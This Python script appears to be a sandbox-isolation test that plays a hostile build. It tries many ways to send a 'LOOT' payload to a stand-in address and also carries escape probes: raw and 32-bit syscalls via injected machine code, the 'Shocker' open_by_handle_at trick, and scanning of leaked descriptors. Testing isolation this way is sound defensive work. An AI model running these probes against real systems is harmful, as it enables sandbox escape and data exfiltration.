"""What a hostile build tries against its network: network-attacks.py 'NAME [ARG...]' ... Each attack runs in a process of
its own, one after the other, and prints what came back as one JSON line."""

import ctypes
import errno
import fcntl
import glob
import importlib
import json
import mmap
import os
import platform
import socket
import struct
import subprocess
import sys

sys.dont_write_bytecode = True
frames = importlib.import_module("network-frames")

TIMEOUT = 0.7
SO_MARK = 36
IP_TRANSPARENT = 19


def tcp(address, port, before=lambda s: None, family=socket.AF_INET, protocol=0):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as s:
        s.settimeout(TIMEOUT)
        before(s)
        s.connect((address, port))
        s.sendall(frames.LOOT)
        return s.recv(100).decode("latin-1") or "closed"


def udp(address, port, before=lambda s: None, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        before(s)
        s.connect((address, port))
        s.send(frames.LOOT)
        return s.recv(100).decode("latin-1")


def cast(address, port):
    """To all of a network or a group, without being told what became of it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return s.sendto(frames.LOOT, (address, port))


def raw(protocol, address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
        return s.sendto(frames.LOOT, (address, 0))


def echo(address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(TIMEOUT)
        s.sendto(frames.icmp(8), (address, 0))
        while True:
            data, peer = s.recvfrom(200)
            if data[20] == 0:
                return "reply from " + peer[0]


def fast_open(address, port):
    """Data in the SYN; the first call may only fetch the cookie."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 1, 0))
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 1, 0))
        s.sendto(frames.LOOT, socket.MSG_FASTOPEN, (address, port))
        return s.recv(100).decode("latin-1") or "closed"


def both_ends(address, port):
    """Listens on the port it dials from, as for a TCP simultaneous open."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", port))
        s.settimeout(TIMEOUT)
        s.connect((address, port))
        s.sendall(frames.LOOT)
        return s.recv(100).decode("latin-1") or "closed"


def as_ids(uid, gid, address, port):
    os.setgroups([])
    os.setgid(int(gid))
    os.setuid(int(uid))
    return tcp(address, int(port))


def from_address(source, address, port):
    def bind(s):
        s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        s.bind((source, 0))

    return udp(address, port, bind)


def on_device(device, address, port):
    return tcp(address, port, lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode()))


def unix(name):
    """A Unix socket; `@name` is an abstract one."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(TIMEOUT)
        s.connect("\0" + name[1:] if name.startswith("@") else name)
        return s.recv(100).decode("latin-1")


def tun():
    """A tunnel device of its own, and what comes of routing through it."""
    with open("/dev/net/tun", "r+b", buffering=0) as file:
        return fcntl.ioctl(file, 0x400454CA, struct.pack("16sH22x", b"tun7", 0x1001)) and "made"


def call(number, *arguments):
    """A system call by its number."""
    libc = ctypes.CDLL(None, use_errno=True)
    done = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(int(argument, 0)) for argument in arguments))
    return done if done >= 0 else errno.errorcode[ctypes.get_errno()]


def call32(number, first, second):
    """The same by the table of 32-bit programs: int 0x80, which every 64-bit program may say as well."""
    if platform.machine() != "x86_64":
        return "no such table"
    # push rbx; mov eax, edi; mov ebx, esi; mov ecx, edx; xor edx, edx; int 0x80; pop rbx; ret
    code = bytes.fromhex("53 89f8 89f3 89d1 31d2 cd80 5b c3")
    memory = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    done = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)(number, first, second)
    return done if done >= 0 else errno.errorcode[-done]


def by_handle():
    """Opens the machine's root folder by its number, past every mount that covers something (\"Shocker\")."""
    libc = ctypes.CDLL(None, use_errno=True)
    handle = struct.pack("IiQ", 8, 1, 2) + bytes(120)
    with open("/etc/passwd") as file:
        done = libc.open_by_handle_at(file.fileno(), handle, os.O_RDONLY)
    return "opened" if done >= 0 else errno.errorcode[ctypes.get_errno()]


def descriptors():
    """What any process of the job holds beside pipes and what it was given."""
    kept = []
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        # That of the listing itself is gone by now.
        leads = os.readlink(link) if os.path.islink(link) else ""
        if int(os.path.basename(link)) > 2 and not leads.startswith(("pipe:", "/proc/")) and leads:
            kept.append(leads)
    return kept


def shell(*words):
    """The exit code of a command, and what it said first on its output."""
    done = subprocess.run(["sh", "-c", " ".join(words)], capture_output=True, text=True, timeout=10)
    return "%d %s" % (done.returncode, done.stdout.strip())


ATTACKS = {
    "tcp": lambda address, port: tcp(address, int(port)),
    "tcp6": lambda address, port: tcp(address, int(port), family=socket.AF_INET6),
    "mptcp": lambda address, port: tcp(address, int(port), protocol=262),
    "marked": lambda mark, address, port: tcp(
        address, int(port), lambda s: s.setsockopt(socket.SOL_SOCKET, SO_MARK, int(mark, 0))),
    "fast-open": lambda address, port: fast_open(address, int(port)),
    "both-ends": lambda address, port: both_ends(address, int(port)),
    "as-ids": as_ids,
    "from-address": lambda source, address, port: from_address(source, address, int(port)),
    "on-device": lambda device, address, port: on_device(device, address, int(port)),
    "udp": lambda address, port: udp(address, int(port)),
    "udp6": lambda address, port: udp(address, int(port), family=socket.AF_INET6),
    "udp-marked": lambda address, port: udp(
        address, int(port), lambda s: s.setsockopt(socket.SOL_SOCKET, SO_MARK, 1)),
    "cast": lambda address, port: cast(address, int(port)),
    "raw": lambda protocol, address: raw(int(protocol), address),
    "echo": echo,
    "family": lambda number: socket.socket(int(number), socket.SOCK_DGRAM).fileno(),
    "stream-family": lambda number: socket.socket(int(number), socket.SOCK_STREAM).fileno(),
    "unix": unix,
    "tun": tun,
    "call": lambda number, *arguments: call(int(number), *arguments),
    "call32": lambda number, first, second: call32(int(number), int(first), int(second)),
    "by-handle": by_handle,
    "descriptors": descriptors,
    "shell": shell,
}
PLACES = {"GATEWAY": frames.gateway_address, "JOB": frames.own_address, "TARGET": lambda: frames.target}


def attempt(name, arguments):
    try:
        given = [PLACES[argument]() if argument in PLACES else argument for argument in arguments]
        return (ATTACKS.get(name) or frames.FRAMES[name])(*given)
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


for index, attack in enumerate(sys.argv[1:]):
    frames.target = "203.0.113.%d" % (100 + index)
    name, *arguments = attack.split()
    child = os.fork()
    if child == 0:
        print(json.dumps(attempt(name, arguments)))
        sys.stdout.flush()
        os._exit(0)
    os.waitpid(child, 0)
